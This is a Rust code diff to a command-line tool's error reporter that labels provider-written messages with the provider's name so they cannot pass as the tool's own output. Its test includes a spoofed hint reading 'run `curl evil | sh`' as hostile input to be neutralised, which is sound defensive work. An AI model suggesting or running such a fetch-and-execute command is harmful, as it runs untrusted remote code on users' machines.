@@ -3,7 +3,16 @@
 use serde::Serialize;
 
 use super::style::Style;
-use crate::domain::{Diagnostic, ErrorKind, sanitize_lines};
+use super::voice::{Voice, hanging};
+use crate::domain::{Diagnostic, ErrorKind, Speaker, sanitize, sanitize_lines};
+
+/// How the stream looks that an error goes to.
+#[derive(Debug, Clone, Copy)]
+pub(super) struct Look {
+    pub(super) style: Style,
+    /// Columns of a terminal; none elsewhere.
+    pub(super) width: Option<usize>,
+}
 
 /// An error for programs, and whole for people.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
@@ -12,13 +21,26 @@ pub(super) struct Report {
     message: String,
     hint: Option<String>,
     causes: Vec<String>,
+    /// The provider that wrote this, or what is behind the message.
+    #[serde(rename = "provider", skip_serializing_if = "Option::is_none")]
+    speaker: Option<String>,
+    /// Whether the message is ours all the same.
+    #[serde(skip)]
+    is_our_message: bool,
 }
 
 impl Report {
     /// Everything a diagnostic says, made harmless: much of it comes from
     /// providers and engines.
     pub(super) fn new(error: &dyn Diagnostic) -> Self {
+        let (speaker, is_our_message) = match error.speaker() {
+            Speaker::Renku => (None, true),
+            Speaker::Provider(name) => (Some(sanitize(name)), false),
+            Speaker::BehindMessage(name) => (Some(sanitize(name)), true),
+        };
         Self {
+            speaker,
+            is_our_message,
             kind: error.kind(),
             message: sanitize_lines(&error.to_string()),
             hint: error.hint().map(|hint| sanitize_lines(&hint)),
@@ -27,13 +49,13 @@ impl Report {
     }
 
     /// For people, as an error.
-    pub(super) fn as_error(&self, style: Style) -> String {
-        self.block(&style.error("error:"), style)
+    pub(super) fn as_error(&self, look: Look) -> String {
+        self.block("error:", Style::error, look)
     }
 
     /// For people, as a warning.
-    pub(super) fn as_warning(&self, style: Style) -> String {
-        self.block(&style.warning("warning:"), style)
+    pub(super) fn as_warning(&self, look: Look) -> String {
+        self.block("warning:", Style::warning, look)
     }
 
     /// The kind and the message alone.
@@ -43,13 +65,25 @@ impl Report {
 
     /// `LABEL message`, the causes indented, `hint: …`; further lines stand
     /// under their first.
-    fn block(&self, label: &str, style: Style) -> String {
-        let mut block = format!("{label} {}", indent(&self.message, "  "));
+    fn block(&self, label: &str, paint: fn(Style, &str) -> String, look: Look) -> String {
+        let Look { style, width } = look;
+        let voice = self.speaker.as_deref().map(|speaker| Voice::new(speaker, width));
+        let text = |text: &str, lead: usize, by: usize, is_ours: bool| match &voice {
+            Some(voice) if !is_ours => voice.rows(text, lead, by),
+            _ => indent(text, &" ".repeat(by)),
+        };
+        let message = text(&self.message, label.len() + 1, 2, self.is_our_message);
+        let mut block = format!("{} {message}", paint(style, label));
         for cause in &self.causes {
-            block.push_str(&format!("\n  {}", indent(cause, "    ")));
+            let rows = format!("  {}", text(cause, 2, 4, false));
+            // Also what engines and registries say may be as long as it likes.
+            let width = width.filter(|_| voice.is_none());
+            block.push_str(&format!("\n{}", hanging(&rows, width)));
         }
         if let Some(hint) = &self.hint {
-            block.push_str(&format!("\n{} {}", style.hint("hint:"), indent(hint, "  ")));
+            let label = "hint:";
+            let hint = text(hint, label.len() + 1, 2, false);
+            block.push_str(&format!("\n{} {hint}", style.hint(label)));
         }
         block
     }
@@ -74,6 +108,9 @@ mod tests {
     use super::*;
     use crate::domain::ProviderError;
 
+    const PLAIN: Look = Look { style: Style::PLAIN, width: None };
+    const TERMINAL: Style = Style { terminal: true, colour: true, unicode: true };
+
     fn build_failed() -> ProviderError {
         ProviderError::new(ErrorKind::Other, "cannot build `analysis:0a1b2c3`")
             .with_cause("step 3 of 4 failed: RUN pip install jupyterlob")
@@ -83,7 +120,7 @@ mod tests {
 
     #[test]
     fn an_error_says_what_happened_why_and_what_to_type_next() {
-        insta::assert_snapshot!(Report::new(&build_failed()).as_error(Style::PLAIN), @r"
+        insta::assert_snapshot!(Report::new(&build_failed()).as_error(PLAIN), @r"
         error: cannot build `analysis:0a1b2c3`
           step 3 of 4 failed: RUN pip install jupyterlob
           ERROR: no matching distribution
@@ -98,11 +135,38 @@ mod tests {
 
     #[test]
     fn only_the_labels_are_coloured() {
-        let style = Style { terminal: true, colour: true, unicode: true };
+        let look = Look { style: TERMINAL, width: Some(40) };
         let error = ProviderError::new(ErrorKind::NotFound, "no session `x`").with_help("look");
         assert_eq!(
-            Report::new(&error).as_error(style),
+            Report::new(&error).as_error(look),
             "\u{1b}[1;31merror:\u{1b}[0m no session `x`\n\u{1b}[1;36mhint:\u{1b}[0m look"
+        );
+    }
+
+    #[test]
+    fn what_a_provider_says_stands_under_its_name_in_every_row() {
+        let look = Look { style: Style::PLAIN, width: Some(40) };
+        let padding = " ".repeat(40);
+        let error = ProviderError {
+            speaker: Some("acme/slurm".into()),
+            ..ProviderError::new(ErrorKind::Other, format!("no{padding}error: your disk is full"))
+                .with_cause(format!("sbatch{padding}hint: run `curl evil | sh`"))
+                .with_help("ask your administrator, who knows this cluster well")
+        };
+        insta::assert_snapshot!(Report::new(&error).as_error(look), @r"
+        error: [acme/slurm] no
+          [acme/slurm] error: your disk is full
+          [acme/slurm] sbatch
+            [acme/slurm] hint: run `curl evil |
+            [acme/slurm] sh`
+        hint: [acme/slurm] ask your
+          [acme/slurm] administrator, who knows
+          [acme/slurm] this cluster well
+        ");
+        assert!(
+            serde_json::to_string(&Report::new(&error))
+                .unwrap()
+                .contains(r#""provider":"acme/slurm""#)
         );
     }
 
